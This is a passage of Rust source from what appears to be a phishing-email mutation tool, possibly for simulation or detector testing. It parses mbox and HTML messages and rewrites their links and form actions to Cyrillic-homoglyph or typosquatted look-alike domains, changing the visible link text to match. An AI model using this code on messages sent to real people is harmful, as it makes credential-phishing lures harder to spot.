fn strip_mbox_line(raw: &[u8]) -> &[u8] {
    if raw.starts_with(b"From ") && !raw.starts_with(b"From :") {
        match raw.iter().position(|&b| b == b'\n') {
            Some(nl) => raw.get(nl + 1..).unwrap_or_default(),
            None => &[],
        }
    } else {
        raw
    }
}

/// A raw header field with CRLF line ends, ending in CRLF.
fn crlf_lines(line: &[u8]) -> Vec<u8> {
    let mut end = line.len();
    while end > 0 && matches!(line.get(end - 1), Some(b'\r' | b'\n')) {
        end -= 1;
    }
    let mut out = Vec::with_capacity(end + 8);
    for (i, l) in line
        .get(..end)
        .unwrap_or_default()
        .split(|&b| b == b'\n')
        .enumerate()
    {
        if i > 0 {
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(l.strip_suffix(b"\r").unwrap_or(l));
    }
    out.extend_from_slice(b"\r\n");
    out
}

fn is_mime_type(ct: &str) -> bool {
    let token = |s: &str| {
        !s.is_empty()
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"!#$&-^_.+".contains(&b))
    };
    ct.split_once('/')
        .is_some_and(|(a, b)| token(a) && token(b))
}

fn clean_filename(name: &str) -> String {
    name.chars()
        .filter(|c| !c.is_control())
        .collect::<String>()
        .trim()
        .to_string()
}

/// The HTML with its `<meta>` charset declarations set to UTF-8 (the body is
/// re-encoded as UTF-8).
fn utf8_meta(html: &str) -> String {
    if !html.to_ascii_lowercase().contains("charset") {
        return html.to_string();
    }
    let mut out = String::with_capacity(html.len());
    for seg in tokenize(html) {
        let raw = html.get(seg.start..seg.end).unwrap_or("");
        if seg.kind == SegKind::Tag && seg.name == "meta" && !seg.closing {
            let mut tag = raw.to_string();
            for attr in tag_attrs(raw).into_iter().rev() {
                let Some(v) = attr.value.clone() else {
                    continue;
                };
                let value = raw.get(v.clone()).unwrap_or("");
                let new = if attr.name == "charset" {
                    Some("utf-8".to_string())
                } else if attr.name == "content" {
                    let lower = value.to_ascii_lowercase();
                    lower.find("charset=").map(|p| {
                        let head = value.get(..p + "charset=".len()).unwrap_or("");
                        let tail = value
                            .get(p + "charset=".len()..)
                            .unwrap_or("")
                            .trim_start_matches(|c: char| !matches!(c, ';' | ' '));
                        format!("{head}utf-8{tail}")
                    })
                } else {
                    None
                };
                if let Some(new) = new {
                    tag = replace_attr_value(&tag, &attr, &new);
                }
            }
            out.push_str(&tag);
        } else {
            out.push_str(raw);
        }
    }
    out
}

// ---- randomness and hashing --------------------------------------------------

const GOLDEN: u64 = 0x9E37_79B9_7F4A_7C15;

fn mix(z: u64) -> u64 {
    let mut z = z.wrapping_add(GOLDEN);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn fnv(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// splitmix64: small, seeded, stable across platforms and releases.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(GOLDEN);
        mix(self.0)
    }

    /// Uniform-ish in `0..n` (0 when `n` is 0).
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }

    /// True with probability `pct` %.
    fn chance(&mut self, pct: u64) -> bool {
        self.next() % 100 < pct
    }

    fn pick<'s>(&mut self, items: &[&'s str]) -> &'s str {
        items.get(self.below(items.len())).copied().unwrap_or("")
    }
}

// ---- HTML scanning -----------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SegKind {
    /// Character data between tags.
    Text,
    /// A start or end tag.
    Tag,
    /// Comments, doctypes and the content of script/style/title/textarea.
    Other,
}

#[derive(Debug, Clone)]
struct Seg {
    kind: SegKind,
    start: usize,
    end: usize,
    /// Lower-case tag name (tags only).
    name: String,
    closing: bool,
}

/// Split HTML into text, tags and the rest, the way a browser would for
/// our purposes; linear in the input, never fails.
fn tokenize(html: &str) -> Vec<Seg> {
    let b = html.as_bytes();
    let n = b.len();
    let mut segs = Vec::new();
    let mut text_start = 0;
    let mut i = 0;
    let push = |segs: &mut Vec<Seg>, kind, start: usize, end: usize, name: String, closing| {
        if end > start {
            segs.push(Seg {
                kind,
                start,
                end,
                name,
                closing,
            });
        }
    };
    while i < n {
        let Some(off) = b.get(i..).and_then(|s| s.iter().position(|&c| c == b'<')) else {
            break;
        };
        let lt = i + off;
        let next = b.get(lt + 1).copied();
        if b.get(lt..).is_some_and(|s| s.starts_with(b"<!--")) {
            push(
                &mut segs,
                SegKind::Text,
                text_start,
                lt,
                String::new(),
                false,
            );
            let end = find_bytes(b, lt + 4, b"-->").map_or(n, |p| p + 3);
            push(&mut segs, SegKind::Other, lt, end, String::new(), false);
            i = end;
            text_start = end;
            continue;
        }
        match next {
            Some(b'!' | b'?') => {
                push(
                    &mut segs,
                    SegKind::Text,
                    text_start,
                    lt,
                    String::new(),
                    false,
                );
                let end = b
                    .get(lt..)
                    .and_then(|s| s.iter().position(|&c| c == b'>'))
                    .map_or(n, |p| lt + p + 1);
                push(&mut segs, SegKind::Other, lt, end, String::new(), false);
                i = end;
                text_start = end;
            }
            Some(c)
                if c.is_ascii_alphabetic()
                    || (c == b'/' && b.get(lt + 2).is_some_and(u8::is_ascii_alphabetic)) =>
            {
                let Some(end) = tag_end(b, lt) else {
                    break;
                };
                let closing = c == b'/';
                let name_start = lt + 1 + usize::from(closing);
                let name_len = b
                    .get(name_start..end)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b':')
                    .count();
                let name = html
                    .get(name_start..name_start + name_len)
                    .unwrap_or("")
                    .to_ascii_lowercase();
                push(
                    &mut segs,
                    SegKind::Text,
                    text_start,
                    lt,
                    String::new(),
                    false,
                );
                let raw_text = !closing
                    && matches!(
                        name.as_str(),
                        "script" | "style" | "title" | "textarea" | "xmp"
                    );
                let close_pat = format!("</{name}");
                push(&mut segs, SegKind::Tag, lt, end, name, closing);
                i = end;
                text_start = end;
                if raw_text {
                    let stop = find_bytes_ci(b, end, close_pat.as_bytes()).unwrap_or(n);
                    push(&mut segs, SegKind::Other, end, stop, String::new(), false);
                    i = stop;
                    text_start = stop;
                }
            }
            _ => i = lt + 1,
        }
    }
    push(
        &mut segs,
        SegKind::Text,
        text_start,
        n,
        String::new(),
        false,
    );
    segs
}

/// The end (after `>`) of the tag starting at `lt`, quotes honoured.
fn tag_end(b: &[u8], lt: usize) -> Option<usize> {
    let mut quote: Option<u8> = None;
    let mut last_non_space = 0u8;
    let mut i = lt + 1;
    while let Some(&c) = b.get(i) {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == b'>' => return Some(i + 1),
            None if (c == b'"' || c == b'\'') && last_non_space == b'=' => quote = Some(c),
            None => {}
        }
        if !c.is_ascii_whitespace() {
            last_non_space = c;
        }
        i += 1;
    }
    None
}

fn find_bytes(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?
        .windows(needle.len())
        .position(|w| w == needle)
        .map(|p| p + from)
}

fn find_bytes_ci(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    hay.get(from..)?
        .windows(needle.len())
        .position(|w| w.eq_ignore_ascii_case(needle))
        .map(|p| p + from)
}

#[derive(Debug, Clone)]
struct Attr {
    name: String,
    /// The value's byte range in the tag (without quotes).
    value: Option<Range<usize>>,
    /// `"`, `'` or 0 (unquoted).
    quote: u8,
}

fn is_space(c: u8) -> bool {
    c.is_ascii_whitespace()
}

/// The attributes of a tag (`<a href="...">`).
fn tag_attrs(tag: &str) -> Vec<Attr> {
    let b = tag.as_bytes();
    let n = b.len();
    let mut i = if b.get(1) == Some(&b'/') { 2 } else { 1 };
    while i < n && !is_space(b[i]) && b[i] != b'>' && b[i] != b'/' {
        i += 1;
    }
    let mut out = Vec::new();
    loop {
        while i < n && (is_space(b[i]) || b[i] == b'/') {
            i += 1;
        }
        if i >= n || b[i] == b'>' {
            break;
        }
        let ns = i;
        if b[i] == b'=' {
            i += 1;
            continue;
        }
        while i < n && !is_space(b[i]) && b[i] != b'=' && b[i] != b'>' && b[i] != b'/' {
            i += 1;
        }
        let name = tag.get(ns..i).unwrap_or("").to_ascii_lowercase();
        let mut j = i;
        while j < n && is_space(b[j]) {
            j += 1;
        }
        if j < n && b[j] == b'=' {
            j += 1;
            while j < n && is_space(b[j]) {
                j += 1;
            }
            if j < n && (b[j] == b'"' || b[j] == b'\'') {
                let q = b[j];
                let vs = j + 1;
                let ve = b
                    .get(vs..)
                    .and_then(|s| s.iter().position(|&c| c == q))
                    .map_or(n.saturating_sub(1).max(vs), |p| vs + p);
                out.push(Attr {
                    name,
                    value: Some(vs..ve),
                    quote: q,
                });
                i = (ve + 1).min(n);
            } else {
                let vs = j;
                while j < n && !is_space(b[j]) && b[j] != b'>' {
                    j += 1;
                }
                out.push(Attr {
                    name,
                    value: Some(vs..j),
                    quote: 0,
                });
                i = j;
            }
        } else {
            out.push(Attr {
                name,
                value: None,
                quote: 0,
            });
        }
        if i == ns {
            i += 1;
        }
    }
    out
}

/// The decoded value of attribute `name`.
fn attr_value(tag: &str, name: &str) -> Option<String> {
    tag_attrs(tag)
        .into_iter()
        .find(|a| a.name == name)
        .and_then(|a| a.value)
        .and_then(|v| tag.get(v))
        .map(|v| decode_entities(v).trim().to_string())
}

/// The tag with `attr`'s value replaced by `new` (escaped, quoted).
fn replace_attr_value(tag: &str, attr: &Attr, new: &str) -> String {
    let Some(v) = &attr.value else {
        return tag.to_string();
    };
    let (Some(head), Some(tail)) = (tag.get(..v.start), tag.get(v.end..)) else {
        return tag.to_string();
    };
    if attr.quote == 0 {
        format!("{head}\"{}\"{tail}", esc_attr(new))
    } else {
        format!("{head}{}{tail}", esc_attr(new))
    }
}

/// The attribute holding the link of a start tag: `href` of `<a>` and
/// `<area>`, `action` of `<form>` (a credential form posts to the kit).
fn link_attr_name(seg: &Seg) -> Option<&'static str> {
    if seg.kind != SegKind::Tag || seg.closing {
        return None;
    }
    match seg.name.as_str() {
        "a" | "area" => Some("href"),
        "form" => Some("action"),
        _ => None,
    }
}

/// The http(s) link of a start tag (see [`link_attr_name`]).
fn seg_link(seg: &Seg, raw: &str) -> Option<String> {
    link_attr_name(seg)
        .and_then(|name| attr_value(raw, name))
        .filter(|u| is_http(u))
}

fn is_http(url: &str) -> bool {
    starts_with_ci(url, "http://") || starts_with_ci(url, "https://")
}

fn starts_with_ci(s: &str, prefix: &str) -> bool {
    s.get(..prefix.len())
        .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

fn decode_entities(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(rest.get(..p).unwrap_or(""));
        let after = rest.get(p + 1..).unwrap_or("");
        let semi = after
            .char_indices()
            .take(12)
            .find(|&(_, c)| c == ';')
            .map(|(i, _)| i);
        if let Some(e) = semi
            && let Some(ch) = entity_char(after.get(..e).unwrap_or(""))
        {
            out.push(ch);
            rest = after.get(e + 1..).unwrap_or("");
            continue;
        }
        out.push('&');
        rest = after;
    }
    out.push_str(rest);
    Cow::Owned(out)
}

fn entity_char(ent: &str) -> Option<char> {
    if let Some(num) = ent.strip_prefix('#') {
        let v = match num.strip_prefix(['x', 'X']) {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => num.parse::<u32>().ok()?,
        };
        return char::from_u32(v).filter(|&c| c != '\0');
    }
    Some(match ent {
        "amp" | "AMP" => '&',
        "lt" | "LT" => '<',
        "gt" | "GT" => '>',
        "quot" | "QUOT" => '"',
        "apos" => '\'',
        "nbsp" => '\u{a0}',
        "copy" => '©',
        "reg" => '®',
        "trade" => '™',
        "hellip" => '…',
        "mdash" => '—',
        "ndash" => '–',
        "lsquo" => '‘',
        "rsquo" => '’',
        "ldquo" => '“',
        "rdquo" => '”',
        "bull" => '•',
        "middot" => '·',
        "euro" => '€',
        "pound" => '£',
        "yen" => '¥',
        "cent" => '¢',
        "laquo" => '«',
        "raquo" => '»',
        "shy" => '\u{ad}',
        "zwnj" => '\u{200c}',
        "zwj" => '\u{200d}',
        "ensp" => '\u{2002}',
        "emsp" => '\u{2003}',
        "thinsp" => '\u{2009}',
        _ => return None,
    })
}

fn esc_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

fn esc_attr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Byte ranges of the http(s) URLs in plain text.
fn find_text_urls(s: &str) -> Vec<Range<usize>> {
    let lower = s.to_ascii_lowercase();
    let b = lower.as_bytes();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(p) = lower.get(from..).and_then(|r| r.find("http")) {
        let start = from + p;
        let after = start + 4;
        let rest = lower.get(after..).unwrap_or("");
        let scheme_len = if rest.starts_with("s://") {
            8
        } else if rest.starts_with("://") {
            7
        } else {
            from = after;
            continue;
        };
        if start > 0 && b.get(start - 1).is_some_and(u8::is_ascii_alphanumeric) {
            from = after;
            continue;
        }
        let body_start = start + scheme_len;
        let mut end = s.get(body_start..).map_or(body_start, |tail| {
            body_start
                + tail
                    .char_indices()
                    .find(|&(_, c)| {
                        c.is_whitespace()
                            || c.is_control()
                            || matches!(
                                c,
                                '<' | '>' | '"' | '\'' | '`' | '\u{200b}'..='\u{200d}' | '\u{feff}'
                            )
                    })
                    .map_or(tail.len(), |(i, _)| i)
        });
        // Trailing punctuation is not part of the URL, nor is a closing
        // bracket that opens nowhere in it (counted once: linear).
        let url = s.get(start..end).unwrap_or("");
        let mut parens = url.matches('(').count() as isize - url.matches(')').count() as isize;
        let mut brackets = url.matches('[').count() as isize - url.matches(']').count() as isize;
        while end > body_start {
            let Some(last) = s.get(start..end).and_then(|u| u.chars().last()) else {
                break;
            };
            let trim = match last {
                '.' | ',' | ';' | ':' | '!' | '?' | '*' | '}' => true,
                ')' if parens < 0 => {
                    parens += 1;
                    true
                }
                ']' if brackets < 0 => {
                    brackets += 1;
                    true
                }
                _ => false,
            };
            if !trim {
                break;
            }
            end -= last.len_utf8();
        }
        if end > body_start {
            out.push(start..end);
        }
        from = end.max(after);
    }
    out
}

/// Plain text as a simple HTML document: paragraphs, line breaks, links.
fn text_to_html(text: &str) -> String {
    render_html(text, &[])
}

/// Render text with `[[LINKn]]` placeholders as a simple HTML document.
fn render_html(text: &str, links: &[PLink]) -> String {
    let mut body = String::new();
    for para in text.split("\n\n") {
        let para = para.trim_matches('\n');
        if para.trim().is_empty() {
            continue;
        }
        body.push_str("<p>");
        for (i, line) in para.split('\n').enumerate() {
            if i > 0 {
                body.push_str("<br>\n");
            }
            for piece in split_placeholders(line) {
                match piece {
                    Piece::Text(t) => body.push_str(&linkify(t)),
                    Piece::Link(n) => {
                        if let Some(l) = n.checked_sub(1).and_then(|k| links.get(k)) {
                            body.push_str(&anchor_html(l));
                        }
                    }
                }
            }
        }
        body.push_str("</p>\n");
    }
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head><body>\n{body}</body></html>\n"
    )
}

fn anchor_html(l: &PLink) -> String {
    let text = if l.anchor.trim().is_empty() {
        &l.url
    } else {
        &l.anchor
    };
    format!("<a href=\"{}\">{}</a>", esc_attr(&l.url), esc_text(text))
}

/// Escaped text with its URLs as links.
fn linkify(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let mut last = 0;
    for r in find_text_urls(t) {
        out.push_str(&esc_text(t.get(last..r.start).unwrap_or("")));
        let url = t.get(r.clone()).unwrap_or("");
        let _ = write!(out, "<a href=\"{}\">{}</a>", esc_attr(url), esc_text(url));
        last = r.end;
    }
    out.push_str(&esc_text(t.get(last..).unwrap_or("")));
    out
}

// ---- links -------------------------------------------------------------------

/// Every distinct http(s) link of the message, in order: HTML hrefs, bare
/// URLs of the HTML text, URLs of the text body.
fn collect_links(m: &Model) -> Vec<String> {
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    let mut add = |u: String| {
        if seen.insert(u.clone()) {
            out.push(u);
        }
    };
    if let Some(html) = &m.html {
        let mut in_anchor = false;
        for seg in tokenize(html) {
            let raw = html.get(seg.start..seg.end).unwrap_or("");
            match seg.kind {
                SegKind::Tag => {
                    if seg.name == "a" {
                        in_anchor = !seg.closing;
                    }
                    if let Some(u) = seg_link(&seg, raw) {
                        add(u);
                    }
                }
                SegKind::Text if !in_anchor => {
                    for r in find_text_urls(raw) {
                        add(raw.get(r).unwrap_or("").to_string());
                    }
                }
                _ => {}
            }
        }
    }
    if let Some(text) = &m.text {
        for r in find_text_urls(text) {
            add(text.get(r).unwrap_or("").to_string());
        }
    }
    out
}

/// What becomes of one link.
struct Change {
    /// The new href.
    href: String,
    /// How the link reads in plain text.
    text: String,
    /// Replacements in the visible text of its anchors (old, new).
    visible: Vec<(String, String)>,
}

/// Rewrite the links of the message with `map` (keyed by original URL).
fn apply_link_changes(m: &mut Model, map: &HashMap<String, Change>) {
    if let Some(html) = &m.html {
        let mut out = String::with_capacity(html.len() + 256);
        let mut visible: Option<&Vec<(String, String)>> = None;
        for seg in tokenize(html) {
            let raw = html.get(seg.start..seg.end).unwrap_or("");
            match seg.kind {
                SegKind::Tag if seg.name == "a" && seg.closing => {
                    visible = None;
                    out.push_str(raw);
                }
                SegKind::Tag if link_attr_name(&seg).is_some() => {
                    if seg.name == "a" {
                        visible = None;
                    }
                    let name = link_attr_name(&seg).unwrap_or("href");
                    let attrs = tag_attrs(raw);
                    let attr = attrs.iter().find(|a| a.name == name);
                    let change = attr
                        .and_then(|a| a.value.clone())
                        .and_then(|v| raw.get(v))
                        .map(|v| decode_entities(v).trim().to_string())
                        .and_then(|u| map.get(&u));
                    match (attr, change) {
                        (Some(attr), Some(change)) => {
                            out.push_str(&replace_attr_value(raw, attr, &change.href));
                            if seg.name == "a" {
                                visible = Some(&change.visible);
                            }
                        }
                        _ => out.push_str(raw),
                    }
                }
                SegKind::Text => match visible {
                    Some(pairs) => out.push_str(&replace_all_ci(raw, pairs)),
                    None => out.push_str(&replace_urls(raw, |u| {
                        map.get(u).map(|c| esc_text(&c.text))
                    })),
                },
                _ => out.push_str(raw),
            }
        }
        m.html = Some(out);
    }
    if let Some(text) = &m.text {
        m.text = Some(replace_urls(text, |u| map.get(u).map(|c| c.text.clone())));
    }
}

/// `s` with each URL for which `f` answers replaced by the answer.
fn replace_urls(s: &str, mut f: impl FnMut(&str) -> Option<String>) -> String {
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for r in find_text_urls(s) {
        let url = s.get(r.clone()).unwrap_or("");
        if let Some(new) = f(url) {
            out.push_str(s.get(last..r.start).unwrap_or(""));
            out.push_str(&new);
            last = r.end;
        }
    }
    out.push_str(s.get(last..).unwrap_or(""));
    out
}

/// `s` with every (ASCII case-insensitive) occurrence of each `old` replaced.
fn replace_all_ci(s: &str, pairs: &[(String, String)]) -> String {
    let mut cur = s.to_string();
    for (old, new) in pairs {
        if old.is_empty() {
            continue;
        }
        let lower = cur.to_ascii_lowercase();
        let needle = old.to_ascii_lowercase();
        if !lower.contains(&needle) {
            continue;
        }
        let mut out = String::with_capacity(cur.len());
        let mut last = 0;
        for (p, _) in lower.match_indices(&needle) {
            out.push_str(cur.get(last..p).unwrap_or(""));
            out.push_str(new);
            last = p + needle.len();
        }
        out.push_str(cur.get(last..).unwrap_or(""));
        cur = out;
    }
    cur
}

/// Build the changes for the first [`MAX_LINKS`] links with `f`; notes the
/// links left over. Returns the number of links changed.
fn change_links(
    m: &mut Model,
    op: &str,
    notes: &mut Vec<String>,
    mut f: impl FnMut(&str) -> Option<Change>,
) -> usize {
    let links = collect_links(m);
    if links.is_empty() {
        notes.push(format!("{op}: no links, message unchanged"));
        return 0;
    }
    let mut map = HashMap::new();
    for url in links.iter().take(MAX_LINKS) {
        if let Some(change) = f(url) {
            map.insert(url.clone(), change);
        }
    }
    if links.len() > MAX_LINKS {
        notes.push(format!(
            "{op}: {} links beyond the first {MAX_LINKS} left unchanged",
            links.len() - MAX_LINKS
        ));
    }
    let n = map.len();
    if n > 0 {
        apply_link_changes(m, &map);
    }
    n
}

/// Host byte range of an http(s) URL (none for IP-literal v6 hosts).
fn url_host_range(url: &str) -> Option<Range<usize>> {
    let start = if starts_with_ci(url, "https://") {
        8
    } else if starts_with_ci(url, "http://") {
        7
    } else {
        return None;
    };
    let rest = url.get(start..)?;
    let auth_len = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let auth = rest.get(..auth_len)?;
    let host_start = start + auth.rfind('@').map_or(0, |p| p + 1);
    let host_port = url.get(host_start..start + auth_len)?;
    if host_port.starts_with('[') {
        return None;
    }
    let host_len = host_port.find(':').unwrap_or(host_port.len());
    (host_len > 0).then_some(host_start..host_start + host_len)
}

/// A host split around its registrable domain.
#[derive(Debug, Clone)]
struct DomainParts {
    /// Subdomains with their trailing dot (`www.`), ASCII.
    prefix: String,
    /// The registrable label (`paypal`), ASCII (maybe `xn--`).
    label: String,
    /// The public suffix (`com`, `co.uk`), ASCII.
    suffix: String,
}

impl DomainParts {
    fn registrable(&self) -> String {
        format!("{}.{}", self.label, self.suffix)
    }
}

fn domain_parts(host: &str) -> Option<DomainParts> {
    let host = host.trim().trim_end_matches('.');
    let ascii = idna::domain_to_ascii(host).ok()?;
    if ascii.is_empty()
        || ascii.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        || !ascii.contains('.')
    {
        return None;
    }
    let d = psl::domain(ascii.as_bytes())?;
    let reg = std::str::from_utf8(d.as_bytes()).ok()?;
    let suffix = std::str::from_utf8(d.suffix().as_bytes()).ok()?;
    let label = reg.strip_suffix(suffix)?.strip_suffix('.')?;
    let prefix = ascii.strip_suffix(reg)?;
    if label.is_empty() || label.contains('.') {
        return None;
    }
    Some(DomainParts {
        prefix: prefix.to_string(),
        label: label.to_string(),
        suffix: suffix.to_string(),
    })
}

fn link_domain(url: &str) -> Option<DomainParts> {
    url_host_range(url)
        .and_then(|r| url.get(r))
        .and_then(domain_parts)
}

fn unicode_label(label: &str) -> String {
    if label.starts_with("xn--") {
        idna::domain_to_unicode(label).0
    } else {
        label.to_string()
    }
}

/// Latin letters and their Cyrillic look-alikes.
const HOMOGLYPHS: &[(char, char)] = &[
    ('a', '\u{430}'),
    ('e', '\u{435}'),
    ('o', '\u{43e}'),
    ('p', '\u{440}'),
    ('c', '\u{441}'),
    ('x', '\u{445}'),
    ('y', '\u{443}'),
    ('i', '\u{456}'),
];

/// More look-alikes, used only to write a whole label in Cyrillic.
const HOMOGLYPHS_EXTRA: &[(char, char)] = &[
    ('s', '\u{455}'),
    ('h', '\u{4bb}'),
    ('l', '\u{4cf}'),
    ('j', '\u{458}'),
    ('d', '\u{501}'),
    ('w', '\u{51d}'),
    ('q', '\u{51b}'),
];

fn cyrillic(c: char, extra: bool) -> Option<char> {
    let table = HOMOGLYPHS
        .iter()
        .chain(if extra { HOMOGLYPHS_EXTRA } else { &[] });
    table.clone().find(|(l, _)| *l == c).map(|(_, cyr)| *cyr)
}

/// The label with Latin letters swapped for Cyrillic look-alikes: every
/// letter when all have one (a whole-script homograph, which browsers show
/// in Unicode) half the time, else one or two of them.
fn homoglyph_label(label: &str, rng: &mut Rng) -> Option<String> {
    let mut chars: Vec<char> = unicode_label(label).chars().collect();
    let letters = chars.iter().filter(|c| c.is_alphabetic()).count();
    let whole = letters >= 2
        && chars
            .iter()
            .filter(|c| c.is_alphabetic())
            .all(|&c| cyrillic(c, true).is_some() || ('\u{400}'..='\u{52f}').contains(&c));
    if whole && rng.chance(50) {
        for c in &mut chars {
            if let Some(cyr) = cyrillic(*c, true) {
                *c = cyr;
            }
        }
        return Some(chars.into_iter().collect());
    }
    let spots: Vec<usize> = chars
        .iter()
        .enumerate()
        .filter(|(_, c)| cyrillic(**c, false).is_some())
        .map(|(i, _)| i)
        .collect();
    if spots.is_empty() {
        return None;
    }
    let count = if spots.len() >= 5 {
        1 + rng.below(2)
    } else {
        1
    };
    let mut chosen = Vec::new();
    while chosen.len() < count {
        let at = spots[rng.below(spots.len())];
        if !chosen.contains(&at) {
            chosen.push(at);
        }
    }
    for at in chosen {
        if let Some(c) = chars.get_mut(at)
            && let Some(cyr) = cyrillic(*c, false)
        {
            *c = cyr;
        }
    }
    Some(chars.into_iter().collect())
}

/// A one-typo variant of an ASCII label.
fn typo_label(label: &str, rng: &mut Rng) -> Option<String> {
    if label.starts_with("xn--") || !label.is_ascii() || label.len() < 2 {
        return None;
    }
    let b: Vec<char> = label.chars().collect();
    let n = b.len();
    let mut candidates: Vec<String> = Vec::new();
    let mut add = |s: String| {
        if s != label
            && !s.starts_with('-')
            && !s.ends_with('-')
            && s.len() <= 63
            && !s.contains("--")
            && !candidates.contains(&s)
        {
            candidates.push(s);
        }
    };
    // Look-alike substitutions first: they read as the real name.
    if label.contains("rn") {
        add(label.replacen("rn", "m", 1));
    }
    if label.contains('m') {
        add(label.replacen('m', "rn", 1));
    }
    if label.contains('w') {
        add(label.replacen('w', "vv", 1));
    }
    if let Some(p) = label.rfind('l') {
        add(format!("{}1{}", &label[..p], &label[p + 1..]));
    }
    if let Some(p) = label.rfind('o') {
        add(format!("{}0{}", &label[..p], &label[p + 1..]));
    }
    let letters: Vec<usize> = (0..n).filter(|&i| b[i].is_ascii_alphabetic()).collect();
    if let Some(&i) = letters.get(rng.below(letters.len())) {
        // Doubled letter.
        let mut s: String = b[..=i].iter().collect();
        s.push(b[i]);
        s.extend(&b[i + 1..]);
        add(s);
    }
    let swaps: Vec<usize> = (1..n.saturating_sub(1))
        .filter(|&i| {
            b[i] != b[i + 1] && b[i].is_ascii_alphabetic() && b[i + 1].is_ascii_alphabetic()
        })
        .collect();
    if let Some(&i) = swaps.get(rng.below(swaps.len())) {
        let mut s = b.clone();
        s.swap(i, i + 1);
        add(s.into_iter().collect());
    }
    if n >= 5 {
        let drops: Vec<usize> = (1..n - 1).filter(|&i| b[i].is_ascii_alphabetic()).collect();
        if let Some(&i) = drops.get(rng.below(drops.len())) {
            let mut s = b.clone();
            s.remove(i);
            add(s.into_iter().collect());
        }
    }
    if candidates.is_empty() {
        return None;
    }
    let i = rng.below(candidates.len());
    Some(candidates.swap_remove(i))
}

/// A URL with its host replaced.
fn with_host(url: &str, range: &Range<usize>, host: &str) -> String {
    format!(
        "{}{host}{}",
        url.get(..range.start).unwrap_or(""),
        url.get(range.end..).unwrap_or("")
    )
}

// ---- operators: links ----------------------------------------------------------

fn op_domain(m: &mut Model, rng: &mut Rng, notes: &mut Vec<String>, homoglyph: bool) {
    let op = if homoglyph { "homoglyph" } else { "typosquat" };
    let notes_before = notes.len();
    // One look-alike per registrable domain: (new ASCII, new Unicode).
    let mut memo: HashMap<String, Option<(String, String)>> = HashMap::new();
    let mut order: Vec<String> = Vec::new();
    let mut skipped: Vec<String> = Vec::new();
    let changed = change_links(m, op, notes, |url| {
        let range = url_host_range(url)?;
        let parts = domain_parts(url.get(range.clone())?)?;
        let reg = parts.registrable();
        let entry = memo.entry(reg.clone()).or_insert_with(|| {
            let new_label = if homoglyph {
                homoglyph_label(&parts.label, rng)
            } else {
                typo_label(&parts.label, rng)
            };
            let result = new_label.and_then(|label| {
                let unicode = format!("{label}.{}", idna::domain_to_unicode(&parts.suffix).0);
                let ascii = idna::domain_to_ascii(&unicode).ok()?;
                (ascii != reg).then_some((ascii, unicode))
            });
            if result.is_some() {
                order.push(reg.clone());
            } else {
                skipped.push(reg.clone());
            }
            result
        });
        let (new_ascii, new_unicode) = entry.clone()?;
        let href = with_host(url, &range, &format!("{}{new_ascii}", parts.prefix));
        let prefix_unicode = idna::domain_to_unicode(&parts.prefix).0;
        let text = with_host(url, &range, &format!("{prefix_unicode}{new_unicode}"));
        let mut visible = vec![(reg.clone(), new_unicode.clone())];
        let old_unicode = idna::domain_to_unicode(&reg).0;
        if old_unicode != reg {
            visible.push((old_unicode, new_unicode));
        }
        Some(Change {
            href,
            text,
            visible,
        })
    });
    for reg in &order {
        if let Some(Some((ascii, unicode))) = memo.get(reg) {
            if homoglyph {
                notes.push(format!("{op}: {reg} -> {unicode} ({ascii})"));
            } else {
                notes.push(format!("{op}: {reg} -> {ascii}"));
            }
        }
    }
    if !skipped.is_empty() {
        notes.push(format!(
            "{op}: left unchanged (no look-alike possible): {}",
            skipped.join(", ")
        ));
    }
    if changed > 0 {
        notes.push(format!("{op}: {changed} link(s) rewritten"));
    } else if notes.len() == notes_before {
        notes.push(format!(
            "{op}: no link with a usable domain, message unchanged"
        ));
    }
}

const BASE62: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

fn op_shortener(m: &mut Model, ctx: &MutateCtx, seed: u64, notes: &mut Vec<String>) {
    let host = ctx
        .shortener
        .trim()
        .trim_start_matches("https://")
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let host = if host.is_empty() {
        "bit.ly".to_string()
    } else {
        host
    };
    let mut first = None;
